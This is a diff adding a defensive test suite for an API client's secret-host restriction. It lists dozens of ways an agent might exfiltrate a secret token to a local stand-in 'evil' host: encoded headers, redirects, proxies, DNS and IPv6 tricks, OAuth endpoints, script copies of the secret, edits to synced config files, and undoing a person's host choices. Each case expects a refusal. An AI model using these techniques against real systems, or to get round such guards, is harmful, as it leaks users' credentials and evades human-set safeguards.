@@ -1,0 +1,661 @@
+import { writeFile, readdir, readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+
+import { type Lab, type Outcome, openLab, token } from './attacks/lab.js';
+
+let lab: Lab;
+beforeAll(async () => {
+  lab = await openLab();
+});
+afterAll(() => lab.close());
+beforeEach(() => lab.reset());
+
+/** One way in which an agent may try to get a secret out, and what it comes to. */
+type Attack = readonly [topic: string, way: string, outcome: RegExp, attempt: (lab: Lab) => Promise<unknown>];
+
+const refused = /^SECRET_HOST_REFUSED$/;
+const away = (path = '') => `http://localhost:${lab.evil}${path}`;
+const text = (content: string, contentType = 'text/plain') => ({ type: 'text', content, contentType });
+const post = (url: string, body: object, more: object = {}) =>
+  lab.send({ method: 'POST', url, body, ...more });
+/** A script that changes its request before it is sent. */
+const onRequest = async (code: string): Promise<Outcome> =>
+  lab.outcomeOf(
+    await lab.script(
+      `export async function onRequest(req) { const token = req.env.getSecret('TOKEN'); const evil = ${JSON.stringify(away())}; ${code} }`,
+      { method: 'POST' },
+    ),
+  );
+const setUp = async (script: string) => lab.script(`export const onRequest = (req) => { ${script} };`);
+
+const attacks: readonly Attack[] = [
+  ['hosts', 'the query of a URL', refused, () => lab.send({ url: away('/?q={{TOKEN}}') })],
+  ['hosts', 'the path of a URL', refused, () => lab.send({ url: away('/{{TOKEN}}') })],
+  [
+    'hosts',
+    'a header',
+    refused,
+    () => lab.send({ url: away(), headers: [{ name: 'x', value: '{{TOKEN}}' }] }),
+  ],
+  [
+    'hosts',
+    'the name of a header',
+    refused,
+    () => lab.send({ url: away(), headers: [{ name: '{{TOKEN}}', value: 'x' }] }),
+  ],
+  ['hosts', 'a JSON body', refused, () => post(away(), { type: 'json', content: '{"a":"{{TOKEN}}"}' })],
+  ['hosts', 'the method', refused, () => lab.send({ url: away(), method: token }, {})],
+  [
+    'hosts',
+    'a bearer token',
+    refused,
+    () => lab.send({ url: away(), auth: { type: 'bearer', token: '{{TOKEN}}' } }),
+  ],
+  [
+    'hosts',
+    'a password in base64',
+    refused,
+    () => lab.send({ url: away(), auth: { type: 'basic', username: 'u', password: '{{TOKEN}}' } }),
+  ],
+  [
+    'hosts',
+    'an API key in the query',
+    refused,
+    () => lab.send({ url: away(), auth: { type: 'api-key', in: 'query', name: 'k', value: '{{TOKEN}}' } }),
+  ],
+  [
+    'hosts',
+    'the user of digest auth',
+    refused,
+    () => lab.send({ url: away(), auth: { type: 'digest', username: '{{TOKEN}}', password: 'p' } }),
+  ],
+  [
+    'hosts',
+    'the session token of AWS',
+    refused,
+    () =>
+      lab.send({
+        url: away(),
+        auth: {
+          type: 'aws-sigv4',
+          accessKeyId: 'a',
+          secretAccessKey: 'b',
+          sessionToken: '{{TOKEN}}',
+          region: 'r',
+          service: 's',
+        },
+      }),
+  ],
+  [
+    'hosts',
+    'PLAINTEXT of OAuth 1',
+    refused,
+    () =>
+      lab.send({
+        url: away(),
+        auth: { type: 'oauth1', signatureMethod: 'PLAINTEXT', consumerKey: 'k', consumerSecret: '{{TOKEN}}' },
+      }),
+  ],
+  [
+    'hosts',
+    'a variable that overrides the host',
+    refused,
+    () => lab.send({ url: 'http://{{host}}/{{TOKEN}}' }, { variables: { host: `localhost:${lab.evil}` } }),
+  ],
+  [
+    'hosts',
+    'a Host header that names another server',
+    refused,
+    () =>
+      lab.send({
+        url: `http://127.0.0.1:${lab.home}/{{TOKEN}}`,
+        headers: [{ name: 'Host', value: `localhost:${lab.evil}` }],
+      }),
+  ],
+  [
+    'DNS names',
+    'a name that means loopback',
+    refused,
+    () => lab.send({ url: `http://localhost:${lab.home}/{{TOKEN}}` }),
+  ],
+  [
+    'DNS names',
+    'a name below localhost',
+    refused,
+    () => lab.send({ url: `http://home.localhost:${lab.evil}/{{TOKEN}}` }),
+  ],
+  [
+    'DNS names',
+    'a name with a dot at its end',
+    refused,
+    () => lab.send({ url: `http://localhost.:${lab.evil}/{{TOKEN}}` }),
+  ],
+  [
+    'DNS names',
+    'the secret as a part of the name',
+    refused,
+    () => lab.send({ url: `http://{{TOKEN}}.localhost:${lab.evil}/` }),
+  ],
+  [
+    'DNS names',
+    'an allowed host as the beginning of another',
+    refused,
+    () => lab.send({ url: `http://127.0.0.1.localhost:${lab.evil}/{{TOKEN}}` }),
+  ],
+  [
+    'userinfo',
+    'the secret as a password in the URL',
+    refused,
+    () => lab.send({ url: `http://u:{{TOKEN}}@localhost:${lab.evil}/` }),
+  ],
+  [
+    'userinfo',
+    'the allowed host before an @',
+    refused,
+    () => lab.send({ url: `http://127.0.0.1:${lab.home}@localhost:${lab.evil}/{{TOKEN}}` }),
+  ],
+  [
+    'userinfo',
+    'a backslash before an @',
+    /REFUSED|INVALID/,
+    () => lab.send({ url: `http://localhost:${lab.evil}\\@127.0.0.1:${lab.home}/{{TOKEN}}` }),
+  ],
+  [
+    'ports',
+    'another port of the allowed host',
+    refused,
+    () => lab.send({ url: `http://127.0.0.1:${lab.evil}/{{TOKEN}}` }),
+  ],
+  [
+    'ports',
+    'numeric forms of the allowed host',
+    refused,
+    () => lab.send({ url: `http://0x7f.1:${lab.evil}/{{TOKEN}}` }),
+  ],
+  [
+    'IPv6',
+    'an IPv4 address in IPv6',
+    refused,
+    () => lab.send({ url: `http://[::ffff:127.0.0.1]:${lab.home}/{{TOKEN}}` }),
+  ],
+  ['IPv6', 'the unspecified address', refused, () => lab.send({ url: `http://[::]:${lab.home}/{{TOKEN}}` })],
+  [
+    'redirects',
+    'the secret in the Location',
+    refused,
+    () =>
+      lab.send({
+        url: `http://127.0.0.1:${lab.home}/away?status=302&to=${encodeURIComponent(away('/'))}{{TOKEN}}`,
+      }),
+  ],
+  [
+    'redirects',
+    'a body that 307 sends on',
+    refused,
+    () => post(`http://127.0.0.1:${lab.home}/away?to=${encodeURIComponent(away())}`, text('{{TOKEN}}')),
+  ],
+  [
+    'redirects',
+    'a header that the next request would have',
+    /^401$/,
+    () =>
+      lab.send({
+        url: `http://127.0.0.1:${lab.home}/away?status=302&to=${encodeURIComponent(away())}`,
+        headers: [{ name: 'x-key', value: '{{TOKEN}}' }],
+      }),
+  ],
+  [
+    'proxies',
+    'a proxy that reads the request',
+    refused,
+    async () => {
+      await proxied({
+        mode: 'manual',
+        protocol: 'http',
+        hostname: 'localhost',
+        port: String(lab.evil),
+        bypass: '<-loopback>',
+      });
+      return lab.send({ url: `http://127.0.0.1:${lab.home}/{{TOKEN}}` });
+    },
+  ],
+  [
+    'proxies',
+    'the password of a proxy',
+    refused,
+    async () => {
+      await proxied({
+        mode: 'manual',
+        protocol: 'http',
+        hostname: 'localhost',
+        port: String(lab.evil),
+        bypass: '<-loopback>',
+        auth: { enabled: true, username: 'u', password: '{{TOKEN}}' },
+      });
+      return lab.send({ url: `http://127.0.0.1:${lab.home}/` });
+    },
+  ],
+  [
+    'proxies',
+    'the user of a SOCKS proxy',
+    refused,
+    async () => {
+      await proxied({
+        mode: 'manual',
+        protocol: 'socks5',
+        hostname: 'localhost',
+        port: String(lab.evil),
+        bypass: '<-loopback>',
+        auth: { enabled: true, username: '{{TOKEN}}', password: 'p' },
+      });
+      return lab.send({ url: `http://127.0.0.1:${lab.home}/` });
+    },
+  ],
+  [
+    'proxies',
+    'the name of the host, which a tunnel tells its proxy',
+    refused,
+    async () => {
+      await proxied({
+        mode: 'manual',
+        protocol: 'http',
+        hostname: 'localhost',
+        port: String(lab.evil),
+        bypass: '<-loopback>',
+      });
+      return lab.send({ url: `https://{{TOKEN}}.test/` });
+    },
+  ],
+  ['scripts', 'another URL', refused, () => onRequest('req.url = evil + "/" + token;')],
+  [
+    'scripts',
+    'another URL only, the secret stays',
+    refused,
+    () => onRequest('req.headers.set("x", token); req.url = evil;'),
+  ],
+  [
+    'scripts',
+    'base64',
+    refused,
+    () => onRequest('req.url = evil; req.headers.set("x", btoa("ab" + token));'),
+  ],
+  [
+    'scripts',
+    'hexadecimal',
+    refused,
+    () =>
+      onRequest(
+        'req.url = evil; req.headers.set("x", [...token].map((c) => c.charCodeAt(0).toString(16)).join(":"));',
+      ),
+  ],
+  [
+    'scripts',
+    'the secret backwards',
+    refused,
+    () => onRequest('req.url = evil; req.headers.set("x", [...token].reverse().join(""));'),
+  ],
+  [
+    'scripts',
+    'percent escapes',
+    refused,
+    () =>
+      onRequest(
+        'req.url = evil + "/?q=" + [...token].map((c) => "%" + c.charCodeAt(0).toString(16)).join("");',
+      ),
+  ],
+  [
+    'scripts',
+    'a copy in a variable',
+    refused,
+    async () => {
+      await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
+      return lab.send({ url: away('/{{COPY}}') });
+    },
+  ],
+  [
+    'scripts',
+    'a copy in a secret without hosts',
+    refused,
+    async () => {
+      await setUp('req.env.setSecret("COPY", req.env.getSecret("TOKEN"));');
+      return lab.send({ url: away('/{{COPY}}') });
+    },
+  ],
+  [
+    'scripts',
+    'a copy, after the secret was removed',
+    refused,
+    async () => {
+      await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
+      await lab.call('environments_update', { id: 'Dev', removeSecrets: ['TOKEN'] });
+      return lab.send({ url: away('/{{COPY}}') });
+    },
+  ],
+  [
+    'scripts',
+    'a copy, after the secret got another value',
+    refused,
+    async () => {
+      await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
+      await lab.call('environments_update', { id: 'Dev', secrets: { TOKEN: 'something else' } });
+      return lab.send({ url: away('/{{COPY}}') });
+    },
+  ],
+  [
+    'scripts',
+    'a copy, after its environment was deleted',
+    refused,
+    async () => {
+      await lab.call('environments_create', { name: 'Other', copyOf: 'Dev' });
+      await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
+      await lab.call('environments_create', { name: 'Third', copyOf: 'Dev' });
+      await lab.call('environments_delete', { id: 'Dev' });
+      await lab.call('environments_delete', { id: 'Other' });
+      const outcome = await lab.send({ url: away('/{{COPY}}') }, { environment: 'Third' });
+      await lab.call('environments_delete', { id: 'Third' });
+      return outcome;
+    },
+  ],
+  [
+    'scripts',
+    'a response that holds it',
+    refused,
+    async () => {
+      await lab.script(
+        'export const onResponse = (req, res) => res.env.setVariable("COPY", res.json().headers["x-key"]);',
+        { headers: [{ name: 'x-key', value: '{{TOKEN}}' }] },
+      );
+      return lab.send({ url: away('/{{COPY}}') });
+    },
+  ],
+  [
+    'host calls',
+    'send',
+    refused,
+    () => calling('const res = await send({ method: "POST", url: evil, json: { token } }); return res;'),
+  ],
+  [
+    'host calls',
+    'send after a redirect',
+    refused,
+    () =>
+      calling(
+        `return await send({ method: "POST", url: req.url + "away?to=" + encodeURIComponent(evil), body: token });`,
+      ),
+  ],
+  [
+    'host calls',
+    'execute',
+    refused,
+    async () => {
+      await lab.call('rest_create', { name: 'Saved', url: away('/{{TOKEN}}') });
+      return calling('return await execute("Saved");');
+    },
+  ],
+  [
+    'GraphQL',
+    'a variable',
+    refused,
+    () => graphql({ query: 'query($a: String) { a(b: $a) }', variables: { a: '{{TOKEN}}' } }),
+  ],
+  ['GraphQL', 'the text of the query', refused, () => graphql({ query: '{ a(b: "{{TOKEN}}") }' })],
+  [
+    'GraphQL',
+    'a header of an introspection',
+    refused,
+    async () => {
+      const created = await lab.call('graphql_create', {
+        name: 'Schema',
+        url: away(),
+        headers: [{ name: 'x', value: '{{TOKEN}}' }],
+      });
+      return codeIn(await lab.call('graphql_introspect', { id: created.id }));
+    },
+  ],
+  [
+    'multipart',
+    'the name of a part',
+    refused,
+    () => post(away(), { type: 'multipart', parts: [{ name: '{{TOKEN}}', value: 'x' }] }),
+  ],
+  [
+    'multipart',
+    'the value of a part',
+    refused,
+    () => post(away(), { type: 'multipart', parts: [{ name: 'x', value: '{{TOKEN}}' }] }),
+  ],
+  [
+    'multipart',
+    'a key of a form',
+    refused,
+    () => post(away(), { type: 'form-urlencoded', fields: [{ name: '{{TOKEN}}', value: 'x' }] }),
+  ],
+  [
+    'cookies',
+    'one that the allowed host set, which is for its other ports too',
+    refused,
+    async () => {
+      await lab.send({ url: `http://127.0.0.1:${lab.home}/cookie?value={{TOKEN}}` });
+      const outcome = await lab.send({ url: `http://127.0.0.1:${lab.evil}/` });
+      await lab.call('cookies_clear', {});
+      return outcome;
+    },
+  ],
+  [
+    'cookies',
+    'one that a script sets',
+    refused,
+    async () => {
+      const outcome = await onRequest(`cookies.set(evil, "a", token); req.url = evil;`);
+      await lab.call('cookies_clear', {});
+      return outcome;
+    },
+  ],
+  [
+    'OAuth 2.0',
+    'the client secret at another token endpoint',
+    refused,
+    () =>
+      lab.send({
+        url: `http://127.0.0.1:${lab.home}/`,
+        auth: {
+          type: 'oauth2',
+          grant: 'client_credentials',
+          accessTokenUrl: away('/token'),
+          clientId: 'c',
+          clientSecret: '{{TOKEN}}',
+        },
+      }),
+  ],
+  [
+    'OAuth 2.0',
+    'the same in the body',
+    refused,
+    () =>
+      lab.send({
+        url: `http://127.0.0.1:${lab.home}/`,
+        auth: {
+          type: 'oauth2',
+          grant: 'client_credentials',
+          accessTokenUrl: away('/token'),
+          clientId: 'c',
+          clientSecret: '{{TOKEN}}',
+          clientAuth: 'body',
+        },
+      }),
+  ],
+  [
+    'OAuth 2.0',
+    'the issuer',
+    refused,
+    () =>
+      lab.send({
+        url: `http://127.0.0.1:${lab.home}/`,
+        auth: {
+          type: 'oauth2',
+          grant: 'client_credentials',
+          issuer: away('/{{TOKEN}}'),
+          clientId: 'c',
+          clientSecret: 'x',
+        },
+      }),
+  ],
+  [
+    'exports',
+    'documents and code',
+    /^nothing$/,
+    async () => {
+      await lab.send({
+        url: `http://127.0.0.1:${lab.home}/{{TOKEN}}`,
+        auth: { type: 'basic', username: 'u', password: '{{TOKEN}}' },
+      });
+      for (const format of ['har', 'openapi', 'curl', 'postman', 'html', 'k6'])
+        await lab.call('exports_render', { format });
+      return 'nothing';
+    },
+  ],
+  [
+    'runs',
+    'a row that overrides the host',
+    /SECRET_HOST_REFUSED/,
+    async () => {
+      const { id } = await lab.call('rest_create', { name: 'Row', url: 'http://{{host}}/{{TOKEN}}' });
+      return JSON.stringify(
+        await lab.call('runs_execute', { ids: [id], rows: [{ host: `localhost:${lab.evil}` }] }),
+      );
+    },
+  ],
+  [
+    'imports',
+    'requests and an environment of a document',
+    refused,
+    async () => {
+      const document = {
+        info: { name: 'C', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
+        item: [{ name: 'Steal', request: { method: 'GET', url: away('/{{TOKEN}}') } }],
+      };
+      await lab.call('imports_apply', { text: JSON.stringify(document) });
+      return lab.outcomeOf(await lab.call('rest_execute', { id: 'C/Steal' }));
+    },
+  ],
+  [
+    'synchronization',
+    'a file of the folder that widens the hosts',
+    refused,
+    async () => {
+      await widenInFiles();
+      return lab.send({ url: away('/{{TOKEN}}') });
+    },
+  ],
+  [
+    'our own ports',
+    'the MCP server',
+    /^OWN_SERVER_REFUSED$|^SECRET_HOST_REFUSED$/,
+    () => post(lab.mcp, { type: 'json', content: '{"a":"{{TOKEN}}"}' }),
+  ],
+  [
+    'the hosts themselves',
+    'a tool that chooses them',
+    /secret_hosts_choose/,
+    async () =>
+      (await lab.call('secret_hosts_choose', { environment: 'Dev', name: 'TOKEN', hosts: [] })).failed,
+  ],
+  [
+    'the hosts themselves',
+    'an argument of environments_update',
+    /hosts/,
+    async () =>
+      (await lab.call('environments_update', { id: 'Dev', hosts: { TOKEN: ['localhost:*'] } })).failed,
+  ],
+  [
+    'the hosts themselves',
+    'a secret that is an object with hosts',
+    /secrets/,
+    async () =>
+      (
+        await lab.call('environments_update', {
+          id: 'Dev',
+          secrets: { TOKEN: { value: 'x', hosts: ['localhost:*'] } },
+        })
+      ).failed,
+  ],
+  [
+    'the hosts themselves',
+    'an undo of what a person chose',
+    refused,
+    async () => {
+      const { entries } = (await lab.call('changes_list', {})) as {
+        readonly entries?: readonly { readonly id: string }[];
+      };
+      for (const { id } of entries ?? []) await lab.call('changes_undo', { ids: [id] });
+      return lab.send({ url: away('/{{TOKEN}}') });
+    },
+  ],
+];
+
+/** What an agent is told by an error, or by the fault of an execution. */
+const codeIn = (result: unknown): string =>
+  /may only be sent to|SECRET_HOST_REFUSED/.test(JSON.stringify(result))
+    ? 'SECRET_HOST_REFUSED'
+    : JSON.stringify(result);
+
+const proxied = (proxy: object) => lab.call('folders_update', { id: '', connections: { proxy } });
+
+/** Calls from a script; the outcome is the code of the error that the script gets. */
+const calling = async (code: string): Promise<Outcome> =>
+  codeIn(
+    await lab.script(
+      `export async function onRequest(req) { const token = req.env.getSecret('TOKEN'); const evil = ${JSON.stringify(away())}; try { ${code} } catch (error) { return error.code + error.message; } }`,
+      { method: 'POST' },
+    ),
+  );
+
+const graphql = async (fields: object): Promise<Outcome> => {
+  const { id } = await lab.call('graphql_create', { name: 'G', url: away(), ...fields });
+  return lab.outcomeOf(await lab.call('graphql_execute', { id }));
+};
+
+const widenInFiles = async (): Promise<void> => {
+  await lab.call('synchronization_synchronize', {});
+  const files = (await readdir(lab.folder, { recursive: true })).filter((path) =>
+    /environments\/.*\.yml$/.test(path),
+  );
+  for (const path of files) {
+    const file = join(lab.folder, path);
+    const written = await readFile(file, 'utf8');
+    await writeFile(file, written.replaceAll(`127.0.0.1:${lab.home}`, '"localhost:*"'));
+  }
+  await lab.call('synchronization_synchronize', {});
+};
+
+describe('an agent that tries to get a secret out', { tags: 'secrets:hosts' }, () => {
+  it.each(attacks)('by %s: %s', { timeout: 30_000 }, async (_, __, outcome, attempt) => {
+    try {
+      expect(await attempt(lab)).toMatch(outcome);
+      expect(lab.leaked()).toEqual([]);
+    } finally {
+      await proxied({ mode: 'none' });
+    }
+  });
+
+  it('is described in the guide', { tags: 'secrets:hosts:person' }, async () => {
+    const guide = await readFile(join(import.meta.dirname, '../../../docs/guides/security.md'), 'utf8');
+    const topics = [...new Set(attacks.map(([topic]) => topic))];
+    const rows = topics.map((topic) => {
+      const ways = attacks.flatMap(([of, way]) => (of === topic ? [way] : []));
+      return `${topic}: ${ways.join('; ')}`;
+    });
+    const written = [...guide.matchAll(/^\| (.+?) +\| (.+?) +\|$/gm)].map(
+      ([, topic, ways]) => `${topic}: ${ways}`,
+    );
+    expect(written).toEqual(expect.arrayContaining(rows));
+  });
+
+  it('succeeds where the secret belongs, so the attacks fail for the right reason', async () => {
+    expect(await lab.send({ url: `http://127.0.0.1:${lab.home}/{{TOKEN}}` })).toBe('200');
+    expect(await lab.send({ url: away('/nothing') })).toBe('401');
+    expect(lab.leaked()).toEqual([]);
+  });
+});
